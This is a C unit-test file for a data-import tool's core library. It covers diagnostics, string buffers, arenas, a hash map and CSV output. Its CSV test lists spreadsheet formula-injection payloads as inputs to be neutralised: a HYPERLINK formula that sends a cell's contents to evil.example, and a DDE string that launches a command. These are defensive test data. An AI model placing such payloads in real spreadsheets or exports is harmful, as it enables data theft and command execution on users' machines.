/* Unit tests for core/: diag formatting and counting, strbuf, arena, strmap, outfile. */
#include <errno.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "../../tests/check.h"
#include "core/arena.h"
#include "core/csv.h"
#include "core/diag.h"
#include "core/lang.h"
#include "core/outfile.h"
#include "core/strbuf.h"
#include "core/strmap.h"

TEST(diag_formats_file_line_and_applicant) {
  diag_sink *d = diag_new(NULL, 0);
  diag_error(d, ((src_loc){"round.xml", 12, 0, "XC-1"}), "bad credit code %s", "X");
  diag_warning(d, ((src_loc){"a.ini", 3, 5, NULL}), "odd");
  CHECK_INT(diag_error_count(d), 1);
  CHECK_INT(diag_warning_count(d), 1);
  CHECK_CONTAINS(diag_text(d), "round.xml:12: error: applicant XC-1: bad credit code X\n");
  CHECK_CONTAINS(diag_text(d), "a.ini:3:5: warning: odd\n");
  diag_free(d);
}

/* weak-raw-control-chars-in-messages: NEL, CSI, DEL, bidi overrides never reach the terminal. */
TEST(diag_never_prints_raw_control_characters) {
  diag_sink *d = diag_new(NULL, 0);
  diag_error(d, ((src_loc){"in\x1b.xml", 8, 0, "XC\xC2\x9B" "1"}), "character '%s' and '%s' and '%s'\n  caret",
             "\xC2\x85", "\xE2\x80\xAE", "\x7F");
  CHECK_STR(diag_text(d), "in<U+001B>.xml:8: error: applicant XC<U+009B>1: character '<U+0085>' and '<U+202E>' "
                          "and '<U+007F>'\n  caret\n");
  diag_free(d);
  /* invisible characters too: a value and the name it differs from must not look the same */
  d = diag_new(NULL, 0);
  diag_error(d, ((src_loc){"c.csv", 3, 0, NULL}), "\"魏都区\xE2\x80\x8B\" \xE2\x81\xA0\xEF\xBB\xBF\xC2\xAD|");
  CHECK_STR(diag_text(d), "c.csv:3: error: \"魏都区<U+200B>\" <U+2060><U+FEFF><U+00AD>|\n");
  diag_free(d);
}

TEST(diag_speaks_chinese_when_asked) {
  lang_force(true);
  char *s = diag_format(NULL, DIAG_ERROR, (src_loc){"r.xml", 2, 0, "A"}, "x");
  CHECK_STR(s, "r.xml:2: 错误: 申报单位 A：x");
  free(s);
  lang_force(false);
}

/* What an item is called belongs to the sink (no process-wide label): another program opened
 * into a quiet sink does not rename the items of the run's messages; a sink made like another
 * (a worker's) names them as its model does. */
TEST(diag_item_noun_per_sink) {
  diag_sink *run = diag_new(NULL, 0), *other = diag_new(NULL, 0);
  diag_set_item_noun(run, "enterprise", "企业");
  diag_set_item_noun(other, "project", "项目");
  diag_sink *worker = diag_new_like(run, NULL, 0);
  diag_error(run, ((src_loc){"r.xml", 2, 0, "HN-1"}), "x");
  diag_error(worker, ((src_loc){"r.xml", 3, 0, "HN-2"}), "y");
  CHECK_STR(diag_text(run), "r.xml:2: error: enterprise HN-1: x\n");
  CHECK_STR(diag_text(worker), "r.xml:3: error: enterprise HN-2: y\n");
  char *s = diag_format(NULL, DIAG_ERROR, (src_loc){"r.xml", 4, 0, "A"}, "z");
  CHECK_STR(s, "r.xml:4: error: applicant A: z");
  free(s);
  diag_set_item_noun(run, NULL, NULL);
  diag_error(run, ((src_loc){"r.xml", 5, 0, "A"}), "w");
  CHECK_CONTAINS(diag_text(run), "r.xml:5: error: applicant A: w");
  diag_free(worker);
  diag_free(other);
  diag_free(run);
}

TEST(diag_caps_printed_messages_but_counts_all) {
  diag_sink *d = diag_new(NULL, 3);
  for (int i = 0; i < 10; i++) diag_error(d, SRC_LOC_NONE, "e%d", i);
  CHECK_INT(diag_error_count(d), 10);
  CHECK(strstr(diag_text(d), "e3") == NULL);
  diag_free(d);
}

TEST(diag_prints_a_repeated_message_once_but_counts_it) {
  /* a link inside the output folder met by every document under it: one line, not twenty */
  FILE *out = tmpfile();
  diag_sink *d = diag_new(out, 0);
  src_loc at = {"out/applicants", 0, 0, NULL}, other = {"out/counties", 0, 0, NULL};
  for (int i = 0; i < 20; i++) diag_error(d, at, "is a symbolic link");
  diag_error(d, other, "is a symbolic link");
  diag_error(d, at, "is a symbolic link: remove it");
  CHECK_INT(diag_error_count(d), 22);
  rewind(out);
  char buf[4096];
  size_t n = fread(buf, 1, sizeof buf - 1, out);
  buf[n] = 0;
  int lines = 0;
  for (char *p = buf; (p = strchr(p, '\n')) != NULL; p++) lines++;
  CHECK_INT(lines, 3);
  diag_free(d);
  fclose(out);
}

TEST(strbuf_grows_and_detaches) {
  strbuf b;
  strbuf_init(&b);
  CHECK_STR(strbuf_str(&b), "");
  for (int i = 0; i < 1000; i++) strbuf_printf(&b, "%d,", i);
  CHECK(b.len > 3000);
  char *s = strbuf_detach(&b);
  CHECK(strncmp(s, "0,1,2,", 6) == 0);
  CHECK(b.data == NULL);
  free(s);
}

TEST(strbuf_reads_files_and_escapes_xml) {
  strbuf b;
  strbuf_init(&b);
  CHECK(!strbuf_append_file(&b, "/nonexistent/yinfa/file"));
  CHECK_STR(strbuf_str(&b), "");
  char path[] = "/tmp/yinfa-strbuf-XXXXXX";
  int fd = mkstemp(path);
  CHECK(fd >= 0 && write(fd, "许昌\n", 7) == 7 && close(fd) == 0);
  CHECK(strbuf_append_file(&b, path));
  CHECK_STR(strbuf_str(&b), "许昌\n");
  unlink(path);
  strbuf_reset(&b);
  strbuf_append_xml_escaped(&b, "a&b<c>\"d'e\x01\tf");
  CHECK_STR(strbuf_str(&b), "a&amp;b&lt;c&gt;&quot;d&apos;e\tf");
  strbuf_reset(&b);
  strbuf_append_xml_escaped(&b, "");
  strbuf_append_xml_escaped(&b, "\x02&\r\n<");
  strbuf_append_xml_escaped(&b, "许昌 x");
  CHECK_STR(strbuf_str(&b), "&amp;\n&lt;许昌 x");
  for (int i = 0; i < 100; i++) strbuf_putc(&b, 'z'); /* across growths */
  CHECK_INT((int)b.len, (int)strlen("&amp;\n&lt;许昌 x") + 100);
  CHECK(b.data[b.len] == '\0' && b.data[b.len - 1] == 'z');
  strbuf_release(&b);
}

TEST(arena_aligns_and_zeroes) {
  arena *a = arena_new();
  for (int i = 0; i < 10000; i++) {
    double *p = arena_alloc(a, 3 + (size_t)i % 40);
    CHECK(((size_t)p % sizeof(double)) == 0);
    if (((size_t)p % sizeof(double)) != 0) break;
  }
  char *big = arena_alloc(a, 1 << 20);
  CHECK(big[0] == 0 && big[(1 << 20) - 1] == 0);
  CHECK_STR(arena_strndup(a, "hello", 4), "hell");
  arena_free(a);
}

TEST(outfile_writes_atomically) {
  char dir[] = "/tmp/yinfa-core-XXXXXX";
  CHECK(mkdtemp(dir) != NULL);
  char path[256];
  snprintf(path, sizeof path, "%s/a/b/c.txt", dir);
  diag_sink *d = diag_new(NULL, 0);
  char sub[256];
  snprintf(sub, sizeof sub, "%s/a/b", dir);
  CHECK(outfile_mkdirs(sub, d));
  CHECK(outfile_write_all(path, "abc", 3, d));
  struct stat st;
  CHECK(stat(path, &st) == 0 && st.st_size == 3);
  snprintf(path, sizeof path, "%s/missing/c.txt", dir);
  CHECK(!outfile_write_all(path, "abc", 3, d));
  CHECK_INT(diag_error_count(d), 1);
  diag_free(d);
  char cmd[300];
  snprintf(cmd, sizeof cmd, "rm -rf %s", dir);
  CHECK(system(cmd) == 0);
}

static char *field(const char *s, csv_mode mode) {
  strbuf b;
  strbuf_init(&b);
  csv_put_field(&b, s, mode);
  return strbuf_detach(&b);
}

#define CHECK_FIELD(in, mode, want)        \
  do {                                     \
    char *got_ = field((in), (mode));      \
    CHECK_STR(got_ ? got_ : "", (want));   \
    free(got_);                            \
  } while (0)

TEST(csv_quotes_and_neutralises_formulas_for_people) {
  CHECK_FIELD("许昌", CSV_EXACT, "许昌");
  CHECK_FIELD("a,b", CSV_EXACT, "\"a,b\"");
  CHECK_FIELD("say \"hi\"", CSV_EXACT, "\"say \"\"hi\"\"\"");
  CHECK_FIELD("=1+1", CSV_EXACT, "=1+1"); /* the manifest: exact */
  CHECK_FIELD("=HYPERLINK(\"http://evil.example/?\"&B2,\"x\")", CSV_FOR_PEOPLE,
              "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&B2,\"\"x\"\")\"");
  CHECK_FIELD("@SUM(1+1)*cmd|' /C calc'!A0", CSV_FOR_PEOPLE, "\"'@SUM(1+1)*cmd|' /C calc'!A0\"");
  CHECK_FIELD("+86 10", CSV_FOR_PEOPLE, "\"'+86 10\"");
  CHECK_FIELD("-1+cmd", CSV_FOR_PEOPLE, "\"'-1+cmd\"");
  CHECK_FIELD("\tx", CSV_FOR_PEOPLE, "\"'\tx\"");
  CHECK_FIELD("\rx", CSV_FOR_PEOPLE, "\"'\rx\"");
  CHECK_FIELD("\xEF\xBC\x9DSUM(A1)", CSV_FOR_PEOPLE, "\"'\xEF\xBC\x9DSUM(A1)\""); /* ＝ */
  CHECK_FIELD("-12.5", CSV_FOR_PEOPLE, "-12.5"); /* numbers stay numbers */
  CHECK_FIELD("+3", CSV_FOR_PEOPLE, "+3");
  CHECK_FIELD("-1e-3", CSV_FOR_PEOPLE, "-1e-3");
  CHECK_FIELD("-", CSV_FOR_PEOPLE, "\"'-\"");
  CHECK_FIELD("a=b", CSV_FOR_PEOPLE, "a=b"); /* only a leading trigger counts */
  CHECK_FIELD("", CSV_FOR_PEOPLE, "");
  CHECK(!csv_looks_like_formula("焦作豫重工机械有限公司"));
  CHECK(csv_looks_like_formula("=1"));
}

/* issue 22 §5: a Chinese message does not end in the C library's English */
TEST(system_errors_in_the_language_of_the_messages) {
  lang_force(true);
  CHECK_STR(lang_strerror(ENOSPC), "磁盘空间不足");
  CHECK_STR(lang_strerror(ENOENT), "文件或目录不存在");
  lang_force(false);
  CHECK_STR(lang_strerror(ENOSPC), strerror(ENOSPC));
}

/* WEAK-import-superlinear-50k: `yinfa import` of 5,000 → 50,000 applicants cost 18.5x, a scan of
 * the applicants so far per row. The map that finds a row's applicant (import/build.c) must cost
 * a bounded number of key comparisons per lookup, at 1,000 keys as at 64,000: a scan makes
 * about count/2 (here 500 and 32,000). Keys as an import has them: ids and credit codes. */
static double compares_per_op(size_t n, bool *right) {
  arena *a = arena_new();
  strmap m = {0};
  char buf[32];
  const char **ids = arena_alloc(a, n * sizeof *ids), **codes = arena_alloc(a, n * sizeof *codes);
  for (size_t i = 0; i < n; i++) {
    snprintf(buf, sizeof buf, "XC-2022-%05zu", i + 1);
    ids[i] = arena_strdup(a, buf);
    snprintf(buf, sizeof buf, "91411002MA%07zuX", i * 7919 % 10000000);
    codes[i] = arena_strdup(a, buf);
    *right &= strmap_put(&m, ids[i], (void *)codes[i]);
    *right &= strmap_put(&m, codes[i], (void *)ids[i]);
  }
  *right &= !strmap_put(&m, ids[0], (void *)"second"); /* the first value keeps its key */
  for (size_t i = 0; i < n; i++) {
    *right &= strmap_get(&m, ids[i]) == codes[i] && strmap_get(&m, codes[i]) == ids[i];
    snprintf(buf, sizeof buf, "XC-2023-%05zu", i + 1);
    *right &= strmap_get(&m, buf) == NULL;
  }
  *right &= m.count == 2 * n;
  double per_op = (double)m.compares / (double)(5 * n + 1); /* 2n puts, 3n gets, 1 put again */
  strmap_release(&m);
  arena_free(a);
  return per_op;
}

TEST(strmap_lookups_cost_the_same_at_any_size) {
  bool right = true;
  double small = compares_per_op(1000, &right), large = compares_per_op(64000, &right);
  CHECK(right);
  printf("     key comparisons per operation: %.2f at 1,000 keys, %.2f at 64,000\n", small, large);
  CHECK(small > 0.5 && small < 3); /* > 0: the count is counted */
  CHECK(large < 3 && large < 1.5 * small);
  strmap m = {0};
  CHECK(strmap_get(&m, "x") == NULL); /* an empty map has no slots */
  strmap_release(&m);
}

int main(void) {
  RUN(csv_quotes_and_neutralises_formulas_for_people);
  RUN(system_errors_in_the_language_of_the_messages);
  RUN(diag_formats_file_line_and_applicant);
  RUN(diag_prints_a_repeated_message_once_but_counts_it);
  RUN(diag_item_noun_per_sink);
  RUN(diag_never_prints_raw_control_characters);
  RUN(diag_speaks_chinese_when_asked);
  RUN(diag_caps_printed_messages_but_counts_all);
  RUN(strbuf_grows_and_detaches);
  RUN(strbuf_reads_files_and_escapes_xml);
  RUN(arena_aligns_and_zeroes);
  RUN(strmap_lookups_cost_the_same_at_any_size);
  RUN(outfile_writes_atomically);
  return CHECK_DONE();
}
